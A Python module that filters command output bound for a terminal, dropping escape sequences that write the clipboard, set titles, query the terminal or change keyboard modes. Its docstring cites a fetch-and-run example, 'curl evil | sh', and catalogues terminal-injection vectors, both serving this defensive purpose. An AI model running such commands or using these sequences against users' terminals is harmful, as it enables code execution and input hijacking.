"""What a command's output may do to the terminal it is shown on: :class:`TerminalGuard`.

A command's output that reaches a person's terminal reaches the terminal emulator too,
and some of what a terminal obeys reaches past the screen: OSC 52 writes the clipboard
(the user then pastes ``curl evil | sh``), a query (``ESC [ c``, ``ESC [ 6 n``,
``ESC ] 11 ; ? BEL``, DECRQSS) makes the terminal type its answer, and an answer typed
after the command has ended goes to the user's shell. So when sluice writes a command's
output to a terminal (never to a pipe or a file: those stay byte for byte), it passes
what draws on the screen and drops what acts elsewhere or makes the terminal answer:

Dropped:

- every OSC (``ESC ]``, C1 ``0x9d``): none of them draws a character cell. They set the
  clipboard (52), the window and icon titles (0, 1, 2), the palette and default colours
  (4, 10-19, 104-119, or query them with ``?``), the working directory (7), shell marks
  (133), notifications (9, 777), fonts (50), and terminal-specific file transfers (1337,
  5113). Titles go too: a title outlives the command (in the tab, the task bar, tmux's
  status line), can say anything ("sudo: enter your password"), and title reports have
  a long history of turning it into typed input. Hyperlinks (OSC 8) go too, while their
  text stays: the target is chosen by the command (or the model that wrote it), need
  not match the text shown, and what a click on ``file:``, ``javascript:`` or a custom
  scheme does is up to the terminal and the desktop.
- every DCS (``ESC P``, ``0x90``): DECRQSS and XTGETTCAP queries, DECUDK (it redefines
  what function keys type), tmux's ``ESC P tmux;`` passthrough to the outer terminal,
  sixel images.
- every SOS, PM and APC (``ESC X``, ``ESC ^``, ``ESC _``, ``0x98``, ``0x9e``,
  ``0x9f``): the kitty graphics protocol reads files named in it and answers queries.
- the CSI sequences that answer or act outside the screen: DA (``c``), DSR and CPR
  (``n``), window operations and reports (``t``), media copy to a printer (``i``),
  DECREQTPARM (``x``), DECRQM (``$ p``), DECSR (``+ p``), DECRQPSR (``$ w``), DECRQTSR
  (``$ u``), DECRQUPSS (``& u``), DECRQCRA (``* y``: a checksum of screen contents),
  DECRQLP (``' |``), DECRQDE (``" v``), XTREPORTSGR/XTREPORTCOLORS (``# R``), XTVERSION
  (``> q``), XTQMODKEYS (``? m``), XTSMGRAPHICS (``? S``), the kitty keyboard query
  (``? u``), title modes (``> T``), the status line (``$ }``, ``$ ~``), and the ANSI
  modes that lock the keyboard (KAM, 2), make the terminal echo what is typed,
  passwords included (SRM, 12), or change what Enter sends (LNM, 20).
- DECID (``ESC Z``, ``0x9a``), ENQ (``0x05``, the answerback message), and DOCS
  (``ESC % @`` and the like: out of UTF-8, the terminal would take bytes inside UTF-8
  characters for C1 controls).

Passed byte for byte: text, C0 controls (newline, tab, backspace, bell...), SGR colours
and attributes, cursor movement, erase (``clear``'s scrollback erase included),
scrolling regions, character sets, the alternate screen, and the DEC private modes that
full-screen programs set (cursor keys, mouse, bracketed paste, focus, synchronized
output): ``ls --color``, ``git diff``, progress bars, ``vim`` and ``top`` look as they
do without sluice (a program that asks its terminal a question gets no answer and takes
its default, as over a serial line). ``sluice run --raw-escapes`` passes everything.

The 8-bit forms count as their 7-bit ones: a C1 control is a byte 0x80-0x9f that is
not inside a UTF-8 character, or the two bytes of U+0080-U+009F in UTF-8 (``0xc2 0x9b``
is CSI to a terminal that decodes UTF-8 first). UTF-8 text passes untouched; a byte
that is not part of a valid UTF-8 character, and starts no sequence, becomes U+FFFD,
which is what a UTF-8 terminal shows for it anyway, so no lenient decoder can make a
control out of it. ``utf8=False`` is for a terminal in an 8-bit character set (the
locale names one: :func:`output_guards`), where every byte 0x80-0x9f is a C1 control
and 0xa0-0xff are characters.

How it holds: the guard only ever writes whole units, text or a complete sequence
(introducer to final byte, nothing else inside), so the terminal's parser is in its
ground state after each write exactly when ours is, and what we judged is what the
terminal runs; sluice's own lines, written between, are never swallowed by a sequence
left open. Whatever is dropped is dropped whole, introducer first, so the terminal never
sees it begin. A sequence split across chunks is held until its end (at most
:data:`MAX_SEQUENCE` bytes; a longer one is dropped whole), and strings (OSC, DCS...)
are dropped as they come, up to their terminator, without being kept: the state is a
few bytes whatever the input. A chunk of text and common sequences is recognised with
a few passes of bytes methods and handed back as it is (about 1 GB/s for plain text,
280 MB/s for UTF-8 text, 100-230 MB/s for coloured output, in CPU time on a loaded machine:
``tests/bench/bench_terminal_guard.py``); elsewhere each position of interest (the next
ESC that starts something else, ENQ, C1, invalid UTF-8, terminator) is searched for once
per chunk and again only once passed, and a sequence costs a few matches, so time is
linear in the input.
"""

from __future__ import annotations

import codecs
import re

# The longest CSI or escape sequence held while incomplete at the end of a chunk; a
# longer one is dropped whole. (The longest in use, SGR with two 24-bit colours, are
# under 64 bytes.)
MAX_SEQUENCE = 256

REPLACEMENT = "\ufffd".encode()

# Where the guard is in the output: on text (between units), inside a string being
# dropped (OSC, which BEL also ends, or DCS/SOS/PM/APC), or inside a sequence that grew
# past MAX_SEQUENCE being dropped up to its final byte (CSI or a plain escape sequence).
_GROUND, _OSC, _STRING, _LONG_CSI, _LONG_ESC = range(5)

# The start of a UTF-8 character, as far as a chunk may cut it (held for the rest), as the
# Unicode standard's table 3-7 spells them (no overlong forms, no surrogates).
_UTF8_START = re.compile(rb"(?:[\xc2-\xdf]|\xe0[\xa0-\xbf]?|[\xe1-\xec\xee\xef][\x80-\xbf]?|\xed[\x80-\x9f]?"
                         rb"|\xf0(?:[\x90-\xbf][\x80-\xbf]?)?|[\xf1-\xf3](?:[\x80-\xbf][\x80-\xbf]?)?"
                         rb"|\xf4(?:[\x80-\x8f][\x80-\xbf]?)?)")

# The fast path, for text between the units below: the first ESC that does not start a
# harmless sequence complete in the chunk (the CSI sequences without intermediates or
# private marker whose final is none of c h i l n t x: SGR, cursor, erase, scroll...;
# DEC private modes set and reset; escape sequences that introduce nothing and switch no
# coding system: ESC 7, ESC ( B).
# (A search with a literal first byte is what runs fast in Python's re: several hundred
# MB/s, against tens for a pattern that starts with a choice.)
_UNSAFE_ESC = re.compile(rb"\x1b(?!\[[0-9;:]*[@-bd-gjkmo-suvwy-~]|\[\?[0-9;]*[hl]|[ -$&-/]+[0-~]|[0-OQ-WY\\`-~])")
# A C1 control in UTF-8 (U+0080-U+009F; 0xc2 is never inside another character).
_C1_UTF8 = re.compile(rb"\xc2[\x80-\x9f]")
_C1_8BIT = re.compile(rb"[\x80-\x9f]")
# The same test without a regular expression, for whole chunks (TerminalGuard._harmless):
# the most common harmless sequences once their parameters are taken out: SGR, then the
# others, commonest first.
_PARAMETERS = b"0123456789;:"
_SGR = b"\x1b[m"
_COMMON_SEQUENCES = (b"\x1b[K", b"\x1b[H", b"\x1b[J", b"\x1b(B", b"\x1b[A", b"\x1b[B", b"\x1b[C", b"\x1b[D",
                     b"\x1b[G", b"\x1b[d", b"\x1b[r")

# Inside a CSI sequence: parameter and intermediate bytes (a final byte 0x40-0x7e ends it).
_CSI_BODY = re.compile(rb"[ -?]*")
# A private marker (< = > ?) only first, as ECMA-48 and the DEC parser have it.
_CSI_WELL_FORMED = re.compile(rb"[<-?]?[0-;]*[ -/]*")
# Inside an escape sequence: intermediate bytes (a final byte 0x30-0x7e ends it).
_ESC_BODY = re.compile(rb"[ -/]*")
_ESC_RUN = re.compile(rb"\x1b+")

# What ends a string: BEL (OSC only), ST (ESC \ or C1 ST), CAN and SUB (abort), and an
# ESC that starts something else. In UTF-8, C1 ST is U+009C's two bytes (a lone 0x9c
# byte is inside a character, such as the last byte of "本", or shown as U+FFFD).
_ST_UTF8, _ST_8BIT = b"\xc2\x9c", b"\x9c"
_STRING_ENDS = (b"\x1b", b"\x18", b"\x1a")
_OSC_ENDS = _STRING_ENDS + (b"\x07",)

# CSI final bytes dropped whatever the rest of the sequence holds: DA, media copy, DSR, window ops.
_CSI_FINALS_DROPPED = frozenset(b"cint")
# (intermediate or private marker, final) pairs dropped (see the module's docstring).
_CSI_PAIRS_DROPPED = frozenset(
    (mark, final) for mark, final in (
        b"$p", b"+p", b"$w", b"$u", b"&u", b"*y", b"'|", b'"v', b"#R", b"$}", b"$~",
        b">q", b"?m", b"?S", b"?u", b">T"))
_CSI_MARKS = frozenset(mark for mark, _ in _CSI_PAIRS_DROPPED)
_DECREQTPARM = ord("x")
# SM and RM (final h, l; no private marker) of the ANSI modes that change what the
# keyboard sends or locks it: KAM (2: keys locked), SRM (12: the terminal echoes what
# is typed, passwords included), LNM (20: Enter sends CR LF).
_SET_MODE, _RESET_MODE = ord("h"), ord("l")
_INPUT_MODES = frozenset({2, 12, 20})
_PARAMETER = re.compile(rb"[0-9]+")
_PRIVATE_MARKERS = frozenset(b"<=>?")
# DOCS (ESC % ...): another coding system. ESC % @ takes the terminal out of UTF-8, after
# which bytes 0x80-0x9f inside characters we passed as text would be controls to it.
_DOCS = ord("%")

# C1 controls (and the final byte of ESC + their 7-bit form) that introduce a string.
_STRING_INTRODUCERS = {0x9d: _OSC, 0x90: _STRING, 0x98: _STRING, 0x9e: _STRING, 0x9f: _STRING}
_ESC_INTRODUCERS = {ord("]"): _OSC, ord("P"): _STRING, ord("X"): _STRING, ord("^"): _STRING, ord("_"): _STRING}
_CSI_C1, _DECID_C1 = 0x9B, 0x9A
_ESC, _ENQ, _CAN, _SUB, _BEL = 0x1B, 0x05, 0x18, 0x1A, 0x07


def csi_dropped(body: bytes, final: int) -> bool:
    """Whether the CSI sequence with parameter and intermediate bytes ``body`` and final
    byte ``final`` answers or acts outside the screen (and is dropped)."""
    if final in _CSI_FINALS_DROPPED:
        return True
    if final == _DECREQTPARM and not any(0x20 <= b <= 0x2F for b in body):
        return True
    if final in (_SET_MODE, _RESET_MODE) and not _PRIVATE_MARKERS.intersection(body):
        return any(int(number) in _INPUT_MODES for number in _PARAMETER.findall(body))
    return any((mark, final) in _CSI_PAIRS_DROPPED for mark in _CSI_MARKS.intersection(body))


class TerminalGuard:
    """One output stream on its way to a terminal: :meth:`feed` each chunk and write what
    it returns; :meth:`flush` at the stream's end (an unfinished sequence is dropped)."""

    __slots__ = ("utf8", "_held", "_mode")

    def __init__(self, *, utf8: bool = True) -> None:
        self.utf8 = utf8
        self._held = b""  # the start of a unit that the next chunk may finish (bounded)
        self._mode = _GROUND

    def feed(self, data) -> bytes:
        """What of ``data`` (bytes-like; the chunks of the stream in order) may be shown now."""
        if not isinstance(data, bytes):
            data = bytes(data)
        if self._held:
            data, self._held = self._held + data, b""
        if self._mode == _GROUND:
            # The common case, at the speed of bytes.find: text and harmless sequences, as
            # they are (no copy), but maybe for a sequence or a character the chunk's end cut.
            cut = _cut(data)
            if cut == len(data):
                if self._harmless(data):
                    return data
            elif cut and self._harmless(data[:cut]):
                return data[:cut] + self.feed(data[cut:])
        scan = _Scan(data, self.utf8)
        out: list[bytes] = []
        end = len(data)
        pos = 0
        while pos < end:
            if self._mode != _GROUND:
                pos = self._skip(data, pos, scan)
                continue
            stop = scan.text_end(pos)
            if stop > pos:
                out.append(data[pos:stop])
            pos = self._unit(data, stop, out) if stop < end else stop
        return b"".join(out)

    @property
    def held(self) -> int:
        """How many bytes are kept for the next chunk (at most :data:`MAX_SEQUENCE`)."""
        return len(self._held)

    def flush(self) -> bytes:
        """The end of the stream: a character left incomplete shows as U+FFFD (as a terminal
        would show it), an incomplete sequence is dropped; the guard starts afresh."""
        held, self._held = self._held, b""
        mode, self._mode = self._mode, _GROUND
        if self.utf8 and mode == _GROUND and _UTF8_START.fullmatch(held):
            return REPLACEMENT
        return b""

    def _harmless(self, data: bytes) -> bool:
        """Whether all of ``data`` is text and harmless sequences, found with a few passes of
        bytes methods (a regular expression costs Python's re a microsecond per ESC)."""
        if b"\x05" in data:
            return False
        escapes = data.count(b"\x1b")
        if escapes:
            # With the bytes of parameters taken out, each common harmless sequence is one
            # of a few strings: all is well when every ESC starts one of them. (An ESC
            # followed by a digit, ; or : is ESC 7 and its like: harmless too.)
            shape = data.translate(None, _PARAMETERS)
            private = data.count(b"\x1b[?")
            if private:
                # DEC private modes: only where "?" follows "ESC [" itself (not "ESC [ 2 ? h").
                if shape.count(b"\x1b[?h") + shape.count(b"\x1b[?l") != private:
                    return False
                escapes -= private
            escapes -= shape.count(_SGR)
            if escapes and shape.count(b"\x1b[") + shape.count(b"\x1b(") < data.count(b"\x1b"):
                return False  # some ESC is followed by neither [ nor (: no need to count further
            for common in _COMMON_SEQUENCES:
                if not escapes:
                    break
                escapes -= shape.count(common)
            if escapes:
                return False
        if data.isascii():
            return True
        if not self.utf8:
            return _C1_8BIT.search(data) is None
        if _C1_UTF8.search(data):
            return False
        try:
            data.decode()  # strict: what a terminal would decode, nothing cut at the end
        except UnicodeDecodeError:
            return False
        return True

    # -- one unit the fast path stopped at ---------------------------------------------

    def _unit(self, data: bytes, i: int, out: list) -> int:
        """Deal with the unit starting at ``data[i]`` (a byte the fast path did not take);
        returns where the next one starts."""
        byte = data[i]
        end = len(data)
        if byte == _ESC:
            if i + 1 == end:
                return self._hold(data, i)
            kind = _ESC_INTRODUCERS.get(data[i + 1])
            if kind is not None:
                self._mode = kind
                return i + 2
            if data[i + 1] == ord("["):
                return self._csi(data, i, 2, out)
            return self._escape(data, i, out)
        if byte == _ENQ:
            return i + 1
        if self.utf8 and byte == 0xC2:
            if i + 1 == end:
                return self._hold(data, i)
            if 0x80 <= data[i + 1] <= 0x9F:
                return self._c1(data, i, 2, out)
        elif 0x80 <= byte <= 0x9F:
            return self._c1(data, i, 1, out)
        # Not valid UTF-8 here: the start of a character the next chunk finishes, or a stray byte.
        prefix = _UTF8_START.match(data, i)
        if prefix is not None and prefix.end() == end:
            return self._hold(data, i)
        out.append(REPLACEMENT)
        return i + 1

    def _c1(self, data: bytes, i: int, width: int, out: list) -> int:
        code = data[i + width - 1]
        if code == _CSI_C1:
            return self._csi(data, i, width, out)
        kind = _STRING_INTRODUCERS.get(code)
        if kind is not None:
            self._mode = kind
        elif code != _DECID_C1:
            # A lone byte 0x80-0x9f is no character to a UTF-8 terminal: shown as U+FFFD there.
            out.append(REPLACEMENT if width == 1 and self.utf8 else data[i:i + width])
        return i + width

    def _csi(self, data: bytes, i: int, width: int, out: list) -> int:
        """A CSI sequence from ``data[i]`` (its introducer ``width`` bytes long)."""
        limit = min(len(data), i + MAX_SEQUENCE)
        stop = _CSI_BODY.match(data, i + width, limit).end()
        if stop == limit:
            return self._unfinished(data, i, stop, _LONG_CSI)
        final = data[stop]
        if not 0x40 <= final <= 0x7E:
            return stop  # cut short (a control, ESC, a byte >= 0x80): it never began, for the terminal too
        body = data[i + width:stop]
        if _CSI_WELL_FORMED.fullmatch(body) and not csi_dropped(body, final):
            out.append(data[i:stop + 1])
        return stop + 1

    def _escape(self, data: bytes, i: int, out: list) -> int:
        """An escape sequence from ``data[i]`` that introduces nothing (not CSI, not a string)."""
        if data[i + 1] == _ESC:
            return _ESC_RUN.match(data, i).end() - 1  # ESC ESC ...: only the last one may start something
        limit = min(len(data), i + MAX_SEQUENCE)
        stop = _ESC_BODY.match(data, i + 1, limit).end()
        if stop == limit:
            return self._unfinished(data, i, stop, _LONG_ESC)
        final = data[stop]
        if not 0x30 <= final <= 0x7E:
            return stop
        # DECID (the terminal answers) and DOCS (the terminal leaves UTF-8) are dropped.
        if not (stop == i + 1 and final == ord("Z")) and _DOCS not in data[i + 1:stop]:
            out.append(data[i:stop + 1])
        return stop + 1

    def _unfinished(self, data: bytes, i: int, stop: int, long_mode: int) -> int:
        """The sequence from ``data[i]`` has no final byte up to ``stop``: past
        :data:`MAX_SEQUENCE` it is dropped up to its final byte (``long_mode``); at the
        chunk's end it is held for the next chunk."""
        if stop < len(data):
            self._mode = long_mode
            return stop
        return self._hold(data, i)

    def _hold(self, data: bytes, i: int) -> int:
        self._held = data[i:]
        return len(data)

    # -- what is being dropped -----------------------------------------------------------

    def _skip(self, data: bytes, pos: int, scan: _Scan) -> int:
        """Drop from ``data[pos]`` up to the end of the string or long sequence under way;
        returns where the next unit starts (or the end of ``data``)."""
        mode = self._mode
        end = len(data)
        if mode in (_LONG_CSI, _LONG_ESC):
            stop = (_CSI_BODY if mode == _LONG_CSI else _ESC_BODY).match(data, pos).end()
            if stop < end:
                self._mode = _GROUND
                if 0x30 <= data[stop] <= 0x7E:
                    stop += 1  # its final byte
            return stop
        at = min(scan.find(ends, pos) for ends in (_OSC_ENDS if mode == _OSC else _STRING_ENDS))
        st = scan.find(_ST_UTF8 if self.utf8 else _ST_8BIT, pos)
        if st < at:
            self._mode = _GROUND
            return st + (2 if self.utf8 else 1)
        if at == end:
            if self.utf8 and data[-1] == 0xC2 and end - 1 >= pos:
                return self._hold(data, end - 1)  # maybe the first byte of ST
            return end
        byte = data[at]
        if byte == _ESC:
            if at + 1 == end:
                return self._hold(data, at)  # ESC \ may be its end, or ESC the start of something
            self._mode = _GROUND
            return at + 2 if data[at + 1] == ord("\\") else at
        self._mode = _GROUND
        return at + 1 if byte == _BEL else at  # CAN and SUB abort it, and are shown as controls are


def _cut(data: bytes) -> int:
    """Where a sequence or a character cut by the end of ``data`` begins (its length if none)."""
    end = len(data)
    last = data.rfind(b"\x1b", max(0, end - MAX_SEQUENCE))
    if last >= 0 and _UNSAFE_ESC.match(data, last):
        return last  # (or a sequence that is not harmless: the slow path sees to it)
    if end and data[-1] >= 0x80:
        for back in range(1, min(3, end) + 1):
            if _UTF8_START.fullmatch(data, end - back):
                return end - back
    return end


# What :meth:`_Scan.text_end` looks for besides bytes: where valid UTF-8 stops.
_INVALID_UTF8 = object()


class _Scan:
    """One chunk's next ESC that starts no harmless sequence, next ENQ, next C1 control,
    next invalid UTF-8, next string terminator...: each found once and again only once
    passed, so that a chunk is read a bounded number of times whatever it holds."""

    __slots__ = ("data", "_next", "_text_stops")

    def __init__(self, data: bytes, utf8: bool) -> None:
        self.data = data
        self._next: dict = {}
        # What ends text: ENQ and an ESC that starts something; beyond ASCII, C1 controls
        # and (in UTF-8) invalid bytes.
        if data.isascii():
            self._text_stops = (b"\x05", _UNSAFE_ESC)
        elif utf8:
            self._text_stops = (b"\x05", _UNSAFE_ESC, _C1_UTF8, _INVALID_UTF8)
        else:
            self._text_stops = (b"\x05", _UNSAFE_ESC, _C1_8BIT)

    def find(self, what, pos: int) -> int:
        """Where ``what`` (bytes, a compiled pattern or :data:`_INVALID_UTF8`) is next at or
        after ``pos``; the end of the chunk if nowhere."""
        at = self._next.get(what, -1)
        return at if at >= pos else self._find(what, pos)

    def _find(self, what, pos: int) -> int:
        data = self.data
        if isinstance(what, bytes):
            at = data.find(what, pos)
        elif what is _INVALID_UTF8:
            try:
                at = pos + codecs.utf_8_decode(memoryview(data)[pos:], "strict", False)[1]
            except UnicodeDecodeError as e:
                at = pos + e.start
        else:
            found = what.search(data, pos)
            at = found.start() if found else -1
        if at < 0:
            at = len(data)
        self._next[what] = at
        return at

    def text_end(self, pos: int) -> int:
        """Where the text and harmless sequences from ``pos`` end."""
        stop = len(self.data)
        known = self._next
        for what in self._text_stops:
            at = known.get(what, -1)
            if at < pos:
                at = self._find(what, pos)
            if at < stop:
                stop = at
        return stop


# -- where sluice uses it ---------------------------------------------------------------


def output_guards(raw: bool = False) -> dict[int, TerminalGuard]:
    """A guard for each of our stdout and stderr that is a terminal, by file descriptor:
    what a command's output written there goes through. None with ``raw`` (``--raw-escapes``)
    or ``[terminal] raw_escapes = true`` in config.toml (read only when a guard would be
    made); pipes and files never get one. Raises :class:`broker.cli.base.ConfigError`."""
    from broker.cli.terminal import is_terminal

    fds = [fd for fd in (1, 2) if is_terminal(fd)]
    if raw or not fds or _raw_escapes_configured():
        return {}
    utf8 = _utf8_locale()
    return {fd: TerminalGuard(utf8=utf8) for fd in fds}


def relay_filter(guards: dict[int, TerminalGuard]):
    """What :class:`landlock_helper.relay.Relay` takes as ``terminal_filter``, given
    :func:`output_guards`'s answer: a fresh guard's ``feed`` for each output the relay
    finds to be a terminal; None when no guard would be made (``--raw-escapes``, the
    config key, or no terminal)."""
    if not guards:
        return None
    utf8 = next(iter(guards.values())).utf8
    return lambda: TerminalGuard(utf8=utf8).feed


def _raw_escapes_configured() -> bool:
    from broker.cli.base import ConfigError, read_config

    path, table = read_config(b"raw_escapes")
    terminal = table.get("terminal", {})
    value = terminal.get("raw_escapes", False) if isinstance(terminal, dict) else False
    if not isinstance(value, bool):
        raise ConfigError(f"{path}: [terminal] raw_escapes must be true or false, not {value!r}")
    return value


def _utf8_locale() -> bool:
    """Whether the terminal is taken to decode UTF-8: unless the locale names another
    character set (ISO-8859-1, KOI8-R...), in which every byte 0x80-0x9f is a control.
    (Python sets the locale from the environment as it starts.)"""
    import locale

    try:
        codeset = codecs.lookup(locale.nl_langinfo(locale.CODESET)).name
    except (AttributeError, LookupError, ValueError):
        return True
    return codeset in ("utf-8", "ascii")
